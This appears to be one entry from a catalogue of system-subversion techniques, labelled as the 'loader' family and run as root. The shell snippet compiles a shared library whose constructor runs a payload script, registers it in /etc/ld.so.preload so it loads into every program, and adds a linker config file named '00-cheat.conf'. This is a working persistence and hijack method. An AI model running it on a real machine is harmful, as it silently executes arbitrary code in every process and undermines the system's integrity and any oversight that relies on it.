# family: loader
# what: /etc/ld.so.preload names a library of ours for every program.
# user: root
echo 'void __attribute__((constructor)) f(void){extern int system(const char*);system("sh PAY");}' |
  sed "s|PAY|$scratch/pay.sh|" | cc -shared -fPIC -x c - -o "$scratch/pay.so"
echo "$scratch/pay.so" > /etc/ld.so.preload
echo "$scratch" > /etc/ld.so.conf.d/00-cheat.conf; ldconfig
